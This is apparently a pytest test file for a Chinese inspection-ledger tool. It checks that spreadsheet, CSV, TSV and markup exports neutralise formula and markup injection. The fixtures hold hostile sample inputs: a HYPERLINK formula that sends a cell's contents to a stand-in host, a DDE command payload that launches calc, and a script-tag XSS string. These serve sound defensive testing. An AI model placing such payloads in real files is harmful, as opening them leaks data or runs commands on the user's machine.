"""Text is written as text (issue 24, item 5): no workbook cell or CSV field becomes a formula.

A title `=HYPERLINK("http://…","x")` or a category `=1+1` is a string cell in every workbook
(`sheet`, `status --format xlsx`, `summary --format xlsx`); in CSV a text field starting with
= + - @ (or tab, CR) is prefixed with a single quote, as OWASP's CSV-injection advice says,
while numbers (negative ones too) and dates stay data.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from conftest import Ledger

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")'
SUM = "=1+1"
AT = "@SUM(1,1)"
PLUS = "+86 0571 1234"
UNIT = "-办公室"


@pytest.fixture
def hostile_texts(inspected: Ledger) -> Ledger:
    ledger = inspected
    ledger("add-problem", "--inspection", "XC2019-1", "--category", SUM, "--title", LINK, "--deadline", "2020-03-01", "--at", "2020-01-15")
    ledger("add-problem", "--inspection", "XC2019-1", "--category", AT, "--title", PLUS, "--deadline", "2020-03-01", "--at", "2020-01-15")
    ledger("assign", "XC2019-1-1", "--lead", "+杨荣", "--unit", UNIT, "--person", "@王琎", "--at", "2020-01-16")
    ledger("plan", "XC2019-1-1", "=cmd|' /C calc'!A0", "--at", "2020-01-16")
    return ledger


def _workbook_cells(path: Path) -> list[tuple[str, object]]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [(c.data_type, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    cells = _workbook_cells(path)
    assert not [v for t, v in cells if t == "f"], cells


@pytest.mark.parametrize("args", [
    ["sheet", "--inspection", "XC2019-1", "--out", "台账.xlsx"],
    ["status", "--format", "xlsx", "--out", "台账.xlsx"],
    ["summary", "--format", "xlsx", "--out", "台账.xlsx"],
    ["due", "--within", "10000d", "--format", "xlsx", "--out", "台账.xlsx"],
])
def test_every_workbook_holds_text_as_string_cells(hostile_texts: Ledger, args: list[str]) -> None:
    hostile_texts(*args)
    path = hostile_texts.folder / "台账.xlsx"
    _no_formula(path)
    texts = {v for t, v in _workbook_cells(path) if t == "s"}
    if args[0] != "due":
        assert SUM in texts or any(SUM in str(v) for v in texts)
    if args[0] != "summary":
        from projections.publication import chinese_punctuation

        # the 台账 reads with Chinese punctuation in Chinese text (issue 25): the title as it prints there
        assert (chinese_punctuation(LINK) if args[0] == "sheet" else LINK) in texts


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_text_fields_are_escaped_and_numbers_are_not(hostile_texts: Ledger) -> None:
    rows = _csv_rows(hostile_texts("status", "--format", "csv").stdout)
    header, body = rows[0], rows[1:]
    fields = [f for row in body for f in row]
    assert "'" + LINK in fields and "'" + SUM in fields and "'" + AT in fields and "'" + PLUS in fields
    assert "'" + UNIT in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r") or (f[:1] == "-" and not f.lstrip("-").replace(".", "").isdigit())]
    # numbers and ISO dates are data, not text
    due = _csv_rows(hostile_texts("due", "--within", "10000d", "--format", "csv").stdout)
    values = [f for row in due[1:] for f in row]
    assert any(f.isdigit() for f in values) and "2020-03-01" in values, due
    summary = hostile_texts("summary", "--format", "csv").stdout
    assert "'" + SUM in summary and "\n" + SUM not in summary and "," + SUM not in summary


def test_csv_from_the_fast_listing_is_escaped_too(hostile_texts: Ledger) -> None:
    """`status` with no filter streams its rows in batches (echo_csv_batches): the same escaping."""
    out = hostile_texts.folder / "status.csv"
    hostile_texts("status", "--format", "csv", "--out", str(out))
    fields = [f for row in _csv_rows(out.read_text(encoding="utf-8-sig"))[1:] for f in row]
    assert "'" + LINK in fields and "'" + UNIT in fields


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-5", "-5"), ("-12.50", "-12.50"), (-5, -5), (0, 0), ("2020-03-01", "2020-03-01"), ("整改", "整改"), ("", ""), (None, None),
])
def test_only_text_fields_are_escaped(value: object, written: object) -> None:
    from commands.options import csv_text

    assert csv_text(value) == written


# Text formats other than csv (issue 24, item 5): a cell never makes another row, column or markup.
MARKUP = "<script>alert(1)</script> | 并行 & 整改"
MEASURE = "=1+1\t第一步\n第二步"


@pytest.fixture
def markup_texts(hostile_texts: Ledger) -> Ledger:
    hostile_texts("add-problem", "--inspection", "XC2019-1", "--category", "作风", "--title", MARKUP, "--deadline", "2020-03-01", "--at", "2020-01-15")
    hostile_texts("plan", "XC2019-1-3", MEASURE, "--at", "2020-01-16")
    return hostile_texts


def test_tsv_keeps_one_line_per_row_and_no_formula(markup_texts: Ledger) -> None:
    for args in (["status", "--format", "tsv"], ["summary", "--format", "tsv"]):
        text = markup_texts(*args).stdout.rstrip("\n")
        lines = text.split("\n")
        # tabulate drops a line's trailing empty cells: a row may be shorter, never wider, than its header
        assert max(len(line.split("\t")) for line in lines) == len(lines[0].split("\t")), (args, lines)
        fields = [f.strip() for line in lines[1:] for f in line.split("\t")]
        assert not [f for f in fields if f[:1] in ("=", "+", "@") or (f[:1] == "-" and not f.lstrip("-").replace(".", "").isdigit())], (args, fields)
    status = markup_texts("status", "--format", "tsv").stdout
    assert len(status.rstrip("\n").split("\n")) == 1 + 3, status
    assert "'" + LINK in status


@pytest.mark.parametrize("fmt", ["markdown", "github", "pipe", "html"])
def test_markup_formats_escape_what_would_be_markup(markup_texts: Ledger, fmt: str) -> None:
    text = markup_texts("status", "--format", fmt).stdout
    assert "<script>" not in text, text
    if fmt != "html":
        rows = [line for line in text.splitlines() if line.startswith("|")]
        columns = {line.replace("\\|", "").count("|") for line in rows}
        assert len(columns) == 1, rows


@pytest.mark.parametrize("fmt", ["unsafehtml", "latex_raw"])
def test_formats_that_write_cells_raw_are_not_offered(markup_texts: Ledger, fmt: str) -> None:
    result = markup_texts("status", "--format", fmt, expect=2)
    assert fmt in result.output and "Traceback" not in result.output
